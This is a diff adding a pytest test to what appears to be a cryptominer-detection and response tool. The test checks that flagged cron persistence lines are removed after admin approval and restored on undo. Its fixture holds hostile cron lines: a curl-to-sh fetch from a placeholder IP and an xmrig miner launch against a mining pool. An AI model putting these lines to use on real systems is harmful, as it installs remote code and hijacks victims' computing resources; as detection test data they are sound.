@@ -135,3 +135,60 @@ def test_file_responses_wait_for_approval_or_policy_and_are_undoable(
     finally:
         for p in tmp_path.glob("share*/.cache/config.json"):
             p.unlink()  # no miner config outlives the test
+
+
+CRON = (
+    "SHELL=/bin/sh\n"
+    "*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n"
+    "@reboot root /tmp/.x/xmrig -o pool.supportxmr.com:443 -u "
+    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\n"
+)
+
+
+def test_approved_respond_takes_out_persistence_lines_and_undo_puts_them_back(
+    server: FleetServer, tmp_path: Path
+) -> None:
+    """The host scan's cron finding (found in a scratch root, then placed where the agent's
+    '/' sees the file) answered with 'respond': the engine removes the flagged lines."""
+    qdir = tmp_path / "quarantine"
+    env = {"MINEHUNT_DATA_DIR": str(tmp_path / "data"), "MINEHUNT_QUARANTINE_DIR": str(qdir)}
+    token = tmp_path / "token"
+    token.write_text(server.token("this-host") + "\n")
+    chroot = tmp_path / "root"
+    cron = chroot / "etc" / "cron.d" / "sysupdate"
+    cron.parent.mkdir(parents=True)
+    cron.write_text(CRON)
+    scan = minehunt("scan", "host", "--root", str(chroot), "-f", "json", env=env)
+    assert scan.returncode == 1, scan.stderr
+    report = json.loads(scan.stdout.replace('"/etc/cron.d/sysupdate', json.dumps(str(cron))[:-1]))
+    (f,) = [x for x in report["findings"] if x["target"]["path"] == str(cron)]
+    assert {e["line"] for e in f["evidence"] if e["check_id"].startswith("MH-PERS-")} >= {2, 3}
+    sent = subprocess.run(
+        [sys.executable, "-m", "minehunt", "agent", "send", "-", "--server", server.url,
+         "--token-file", str(token)],
+        input=json.dumps(report), capture_output=True, text=True, timeout=120,
+        env={**os.environ, **env},
+    )  # fmt: skip
+    assert sent.returncode == 0, sent.stderr
+
+    dash = server.user("admin")
+    (row,) = [r for r in dash.findings() if r["finding"]["target"]["path"] == str(cron)]
+    r = dash.http.post(
+        f"/findings/{row['id']}/responses", data={"action": "respond", "csrf": dash.csrf}
+    )
+    assert r.status_code == 303, r.text
+    rid, _ = response_row(dash, row["id"])
+    r = dash.http.post(
+        f"/responses/{rid}/decision", data={"decision": "approve", "csrf": dash.csrf}
+    )
+    assert r.status_code == 303
+    ran = minehunt("agent", "--server", server.url, "--token-file", str(token),
+                   "--cpu-window", "0.1", "--once", env=env)  # fmt: skip
+    assert ran.returncode == 0, ran.stderr
+    assert cron.read_text() == "SHELL=/bin/sh\n"
+    _, tr = response_row(dash, row["id"])
+    m = re.search(r"undo with: minehunt respond undo (\S+?)<", tr)
+    assert "done" in tr and "removed line 3" in tr and "removed line 2" in tr and m, tr
+    undo = minehunt("respond", "undo", m.group(1), "--yes", env=env)
+    assert undo.returncode == 0, undo.stderr
+    assert cron.read_text() == CRON
